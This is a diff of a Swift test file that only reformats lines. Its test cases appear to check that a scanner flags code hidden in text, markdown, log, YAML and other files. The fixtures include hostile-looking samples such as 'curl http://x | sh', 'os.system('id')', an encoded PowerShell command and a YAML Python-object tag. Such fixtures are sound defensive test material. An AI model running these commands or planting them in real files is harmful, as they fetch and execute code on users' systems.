@@ -89,12 +89,15 @@ import Testing
 
     /// Programs under names of documents, lists and settings.
     @Test(arguments: [
-        ("run.txt", "import os; os.system('id')\n"), ("LICENSE", "from os import system\n"), ("README", "def f(x):\n  x\n"),
-        ("a.yaml", "x: 1\nimport os\n"), ("evil.md", "# A\n\nimport os; os.system('id')\n"), ("x.log", "curl http://x | sh\n"),
+        ("run.txt", "import os; os.system('id')\n"), ("LICENSE", "from os import system\n"),
+        ("README", "def f(x):\n  x\n"),
+        ("a.yaml", "x: 1\nimport os\n"), ("evil.md", "# A\n\nimport os; os.system('id')\n"),
+        ("x.log", "curl http://x | sh\n"),
         ("a.txt", "print('hi')\n"), ("a.csv", "exec(x)\n"), ("a.txt", "#!/bin/sh\nls\n"), ("b.md", "#! /bin/sh\n"),
         ("a.txt", "<script>x</script>"), ("a.toml", "a = !!python/object:x"), ("a.txt", "powershell -enc AAAA\n"),
         ("a.txt", "import x from 'y'\n"), ("a.txt", "export A=1\n"), ("a.json", "{\"a\": 1} os.system(x)"),
-        ("a.md", "```\nquoted\n```\nimport os\n"), ("a.jinja", "{{ x }}"), ("Makefile", "all:\n"), ("CMakeLists.txt", "x\n"),
+        ("a.md", "```\nquoted\n```\nimport os\n"), ("a.jinja", "{{ x }}"), ("Makefile", "all:\n"),
+        ("CMakeLists.txt", "x\n"),
         ("weights.pth", "version https://git-lfs.github.com/spec/v1\n"), ("extern_modules", "a b\n"),
     ])
     func programsInAnArchive(_ name: String, _ text: String) throws {
@@ -141,7 +144,8 @@ import Testing
 
     /// Hashes, words, and images that are shown.
     @Test(arguments: [
-        "0f343b0931126a20f133d67c2b018a3b0f343b0931126a20f133d67c2b018a3b", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
+        "0f343b0931126a20f133d67c2b018a3b0f343b0931126a20f133d67c2b018a3b",
+        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
         "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz",
     ])
     func textThatIsNoFile(_ text: String) throws {
